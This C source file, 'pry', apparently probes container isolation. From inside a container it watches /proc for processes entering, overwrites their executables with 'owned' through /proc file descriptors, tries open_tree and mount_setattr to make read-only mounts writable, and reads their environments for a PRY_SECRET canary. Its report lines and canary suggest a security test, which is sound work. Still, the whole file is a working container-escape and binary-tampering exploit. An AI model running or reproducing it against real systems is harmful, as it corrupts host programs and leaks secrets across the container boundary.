/* pry.c - pry: from inside a container, gets hold of the program of whoever comes by and writes
 * into it. Says once of each what it could do: "denied", "opened NAME", "readonly NAME", "overwrote
 * NAME", "cloned NAME" and "unlocked NAME" (its mount), "reached NAME" (a directory by one of its
 * fds), "outside NAME" (its root is not ours, and NAME, our argument, is there), "read environ" and
 * "knows PRY_SECRET" (of its environment). Its own program and busybox are none. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MOST 256
static char said[MOST][300];
static int count;

static int was_said(const char *line)
{
	for (int i = 0; i < count; i++)
		if (!strcmp(said[i], line))
			return 1;
	return 0;
}

static void say(const char *what, const char *name)
{
	char line[300];
	snprintf(line, sizeof(line), "%s %.250s\n", what, name);
	if (was_said(line))
		return;
	if (count < MOST)
		strcpy(said[count++], line);
	if (write(1, line, strlen(line)) < 0)
		exit(1);
}

/* Whoever may mount could make writable what is not, itself or in a copy of the mount. */
static void unlock(const char *path, const char *name)
{
	struct {
		unsigned long long set, clear, propagation, userns;
	} writable = { .clear = 1 };
	int fd = open(path, O_PATH | O_CLOEXEC);
	long copy = syscall(428, fd, "", 0x1000 | 1 | O_CLOEXEC); /* open_tree */
	if (copy >= 0)
		say("cloned", name);
	if (syscall(442, fd, "", 0x1000, &writable, sizeof(writable)) == 0) /* mount_setattr */
		say("unlocked", name);
	close(fd);
	if (copy >= 0)
		close((int)copy);
}

static long milliseconds(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* As long as it runs it is busy; but what was read-only before is not waited for for ever, as
 * others come by meanwhile. */
static void overwrite(int fd, const char *name)
{
	char path[64], known[300];
	long end = milliseconds() + 20;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	snprintf(known, sizeof(known), "readonly %.250s\n", name);
	for (;;) {
		int out = open(path, O_WRONLY);
		if (out < 0 && errno == ETXTBSY && was_said(known) && milliseconds() > end)
			return;
		if (out < 0 && errno == ETXTBSY)
			continue;
		if (out < 0) {
			int why = errno;
			unlock(path, name);
			say(why == EROFS ? "readonly" : strerror(why), name);
			return;
		}
		if (write(out, "owned", 5) == 5)
			say("overwrote", name);
		close(out);
		return;
	}
}

/* Its fds, by which one may go where it can. */
static void reach(const char *pid)
{
	char path[300], name[256], within[400];
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *d = opendir(path);
	if (!d)
		return;
	for (struct dirent *e; (e = readdir(d));) {
		struct stat st;
		if (!isdigit((unsigned char)*e->d_name))
			continue;
		snprintf(within, sizeof(within), "%s/%s/..", path, e->d_name);
		snprintf(path + strlen(path), sizeof(path) - strlen(path), "/%.20s", e->d_name);
		ssize_t n = readlink(path, name, sizeof(name) - 1);
		if (n > 0 && stat(within, &st) == 0) {
			name[n] = 0;
			say("reached", name);
		}
		snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	}
	closedir(d);
}

/* Its root, if that is the host's still. */
static void look_outside(const char *pid, const char *victim)
{
	char path[300];
	struct stat st;
	snprintf(path, sizeof(path), "/proc/%s/root%s", pid, victim);
	if (stat(path, &st) == 0)
		say("outside", victim);
}

/* What its caller had in his environment is nothing to us. */
static void look_around(const char *pid)
{
	static const char secret[] = "PRY_SECRET=";
	char path[300], all[65536];
	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, all, sizeof(all));
	if (n > 0)
		say("read", "environ");
	if (n > 0 && memmem(all, (size_t)n, secret, strlen(secret)))
		say("knows", "PRY_SECRET");
	if (fd >= 0)
		close(fd);
}

static int same(const struct stat *a, const struct stat *b)
{
	return a->st_ino == b->st_ino && a->st_dev == b->st_dev;
}

static void pry(const char *pid, const struct stat *own)
{
	char path[300], name[256];
	struct stat st;
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	ssize_t n = readlink(path, name, sizeof(name) - 1);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		if (errno == EACCES || errno == EPERM)
			say("denied", "");
		return;
	}
	name[n > 0 ? n : 0] = 0;
	if (fstat(fd, &st) == 0 && !same(&st, &own[0]) && !same(&st, &own[1])) {
		say("opened", name);
		look_around(pid);
		reach(pid);
		overwrite(fd, name);
	}
	close(fd);
}

int main(int argc, char **argv)
{
	struct stat own[2]; /* what comes by without any harm: we, and the container's programs */
	if (stat("/proc/self/exe", &own[0]) < 0 || stat("/bin/busybox", &own[1]) < 0)
		return 1;
	for (;;) {
		DIR *d = opendir("/proc");
		if (!d)
			return 1;
		for (struct dirent *e; (e = readdir(d));)
			if (isdigit((unsigned char)*e->d_name) && strcmp(e->d_name, "1")) {
				if (argc > 1)
					look_outside(e->d_name, argv[1]);
				pry(e->d_name, own);
			}
		closedir(d);
	}
}
